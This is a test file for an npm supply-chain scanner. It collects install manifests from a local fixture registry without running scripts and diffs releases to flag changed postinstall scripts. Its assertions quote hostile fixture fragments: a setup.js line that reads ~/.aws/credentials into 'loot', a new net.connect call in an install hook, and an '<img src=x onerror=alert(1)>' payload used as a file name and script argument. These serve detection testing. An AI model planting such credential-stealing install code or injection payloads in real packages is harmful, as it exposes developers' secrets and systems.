// The install manifest from a real `npm install --ignore-scripts` against
// the loopback fixture registry: the tree, the scripts and the hashes are
// the published artifacts (checked against the registry's dist.integrity and
// the fixture files), and no installed code ran while it was taken.
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { createHash } from "node:crypto";
import { existsSync, readFileSync, readdirSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { REPO } from "../lib/env.ts";
import { collectOnHost, registryRoot, startHostRegistry, type Collected, type HostRegistry } from "./lib.ts";
import { diffManifests } from "../../src/releasediff/diff.ts";

const GOLDEN = ["fangs-fixture-relscript@1.0.0", "fangs-fixture-relscript@1.1.0", "fangs-fixture-reldep@1.0.0", "fangs-fixture-reldep@1.1.0", "fangs-fixture-reldocs@1.0.0", "fangs-fixture-reldocs@1.1.0"];
let reg: HostRegistry;
const got = new Map<string, Collected>();
const NATIVE = { "fangs-rd-native/1.0.0": { "package.json": JSON.stringify({ name: "fangs-rd-native", version: "1.0.0", license: "MIT" }), "binding.gyp": "{ 'targets': [] }\n", "index.js": "module.exports = 1;\n" } };

beforeAll(async () => {
  reg = await startHostRegistry(registryRoot(["fangs-fixture-relscript", "fangs-fixture-reldep", "fangs-fixture-reldep-helper", "fangs-fixture-reldocs"], NATIVE));
  for (const [p, v] of [["fangs-fixture-relscript", "1.0.0"], ["fangs-fixture-relscript", "1.1.0"], ["fangs-fixture-reldep", "1.0.0"], ["fangs-fixture-reldep", "1.1.0"], ["fangs-fixture-reldocs", "1.0.0"], ["fangs-fixture-reldocs", "1.1.0"], ["fangs-rd-native", "1.0.0"]]) {
    got.set(`${p}@${v}`, await collectOnHost(reg, p, v));
  }
}, 120_000);
afterAll(() => reg?.stop());

const m = (k: string) => got.get(k)!.manifest;

describe("collector: what npm put on disk, as published", () => {
  test("the tree: the scanned package and its new dependency, with integrity equal to the registry's dist.integrity", async () => {
    const man = m("fangs-fixture-reldep@1.1.0");
    expect(man.error).toBeUndefined();
    expect(man.packages.map((p) => `${p.name}@${p.version}`).sort()).toEqual(["fangs-fixture-reldep-helper@1.0.0", "fangs-fixture-reldep@1.1.0"]);
    for (const p of man.packages) {
      const doc = (await (await fetch(reg.url + p.name)).json()) as { versions: Record<string, { dist: { integrity: string } }> };
      expect(p.integrity).toBe(doc.versions[p.version].dist.integrity);
      expect(p.resolved).toBe((doc.versions[p.version].dist as unknown as { tarball: string }).tarball);
    }
    const helper = man.packages.find((p) => p.name === "fangs-fixture-reldep-helper")!;
    expect(helper.install_scripts).toBe(true);
    expect(helper.scripts).toEqual([{ step: "postinstall", command: "node setup.js" }]);
    expect(helper.texts?.["setup.js"]).toBe(readFileSync(join(REPO, "tests/fixtures/packages/fangs-fixture-reldep-helper/1.0.0/setup.js"), "utf8"));
  });

  test("file list with sizes and sha256 equal to the fixture's files, hostile names kept as data", () => {
    const root = m("fangs-fixture-reldocs@1.1.0").packages.find((p) => p.name === "fangs-fixture-reldocs")!;
    const src = join(REPO, "tests/fixtures/packages/fangs-fixture-reldocs/1.1.0");
    const want = readdirSync(src).sort().map((f) => {
      const data = readFileSync(join(src, f));
      return { path: f, size: data.length, sha256: createHash("sha256").update(data).digest("hex") };
    });
    expect(root.files!.slice().sort((a, b) => a.path.localeCompare(b.path))).toEqual(want.sort((a, b) => a.path.localeCompare(b.path)));
    expect(root.files!.map((f) => f.path)).toContain('"><img src=x onerror=alert(1)>.txt');
  });

  test("nothing installed ran: no lifecycle script left its marker (scripts only described)", () => {
    for (const [k, c] of got) {
      for (const p of c.manifest.packages) {
        for (const marker of ["setup-done.txt", "built.txt"]) expect(existsSync(join(c.dir, p.path, marker))).toBe(false);
        expect(p.files?.some((f) => f.path === "setup-done.txt" || f.path === "built.txt")).toBe(false);
      }
      expect(c.manifest.packages.length, k).toBeGreaterThan(0);
    }
  });

  test("a binding.gyp without install scripts is the implicit `node-gyp rebuild`", () => {
    const p = m("fangs-rd-native@1.0.0").packages[0];
    expect(p.binding_gyp).toBe(true);
    expect(p.install_scripts).toBe(true);
    expect(p.scripts).toEqual([{ step: "install", command: "node-gyp rebuild", implicit: true }]);
  });

  test("a version the registry does not have: a partial manifest that says why", async () => {
    const c = await collectOnHost(reg, "fangs-fixture-reldocs", "9.9.9");
    expect(c.manifest.npm_exit).not.toBe(0);
    expect(c.manifest.error).toMatch(/exited|no lockfile/);
    expect(c.manifest.packages).toEqual([]);
  });
});

describe("release diff over real manifests", () => {
  test("(a) the changed postinstall: the script line and the file it runs, as unified diffs", () => {
    const d = diffManifests(m("fangs-fixture-relscript@1.1.0"), m("fangs-fixture-relscript@1.0.0"), { run_id: "b".repeat(16), version: "1.0.0" });
    expect(d.deps).toEqual([]);
    expect(d.scripts).toHaveLength(1);
    const s = d.scripts[0];
    expect(s).toMatchObject({ package: "fangs-fixture-relscript", step: "postinstall", change: "changed", before: "node setup.js", new_package: false });
    expect(s.diff).toContain("-node setup.js\n+node setup.js --tag '<img src=x onerror=alert(1)>'");
    expect(s.files.map((f) => f.path)).toEqual(["setup.js"]);
    expect(s.files[0].diff).toContain('+try { loot = fs.readFileSync(path.join(os.homedir(), ".aws/credentials"), "utf8"); } catch {}');
    expect(d.files.map((f) => [f.path, f.change])).toEqual([["package.json", "changed"], ["setup.js", "changed"]]);
  });

  test("(b) the new dependency with an install script", () => {
    const d = diffManifests(m("fangs-fixture-reldep@1.1.0"), m("fangs-fixture-reldep@1.0.0"), { run_id: "b".repeat(16), version: "1.0.0" });
    expect(d.deps).toEqual([{ name: "fangs-fixture-reldep-helper", change: "added", before: [], after: ["1.0.0"], install_scripts: true, scripts: [{ step: "postinstall", command: "node setup.js" }], resolved: `${reg.url}fangs-fixture-reldep-helper/-/fangs-fixture-reldep-helper-1.0.0.tgz`, integrity: expect.stringMatching(/^sha512-/) }]);
    expect(d.scripts.map((s) => [s.package, s.step, s.change, s.new_package])).toEqual([["fangs-fixture-reldep-helper", "postinstall", "added", true]]);
    expect(d.scripts[0].files[0].diff).toContain("+const s = net.connect");
  });

  test("(c) only non-script files: no script or dependency change, the files with content diffs", () => {
    const d = diffManifests(m("fangs-fixture-reldocs@1.1.0"), m("fangs-fixture-reldocs@1.0.0"), { run_id: "b".repeat(16), version: "1.0.0" });
    expect(d.scripts).toEqual([]);
    expect(d.deps).toEqual([]);
    expect(d.files.map((f) => [f.path, f.change])).toEqual([['"><img src=x onerror=alert(1)>.txt', "added"], ["README.md", "changed"], ["index.js", "changed"], ["package.json", "changed"]]);
    expect(d.files.find((f) => f.path === "index.js")!.diff).toContain("-module.exports = (x) => x + 1;\n+module.exports = (x) => x + 2;");
  });

  test("golden manifests (src unit tests use them) equal a fresh collection; FANGS_UPDATE_GOLDEN=1 rewrites them", () => {
    for (const k of GOLDEN) {
      // The host registry's port is random: goldens name the sealed registry's URL.
      const fresh = JSON.parse(JSON.stringify({ ...m(k), collect_ms: undefined }).replaceAll(reg.url, "http://127.0.0.1:4873/"));
      const file = join(REPO, "tests/fixtures/manifests", `${k}.json`);
      if (process.env.FANGS_UPDATE_GOLDEN === "1") writeFileSync(file, JSON.stringify(fresh, null, 1) + "\n");
      expect(JSON.parse(readFileSync(file, "utf8"))).toEqual(JSON.parse(JSON.stringify(fresh)));
    }
  });

  test("figures: manifest size and collection time per release", () => {
    for (const [k, c] of got) console.log(`manifest ${k}: ${c.bytes} bytes, ${c.manifest.packages.length} package(s), collected in ${Math.round(c.ms)} ms (host npm, loopback registry)`);
  });
});
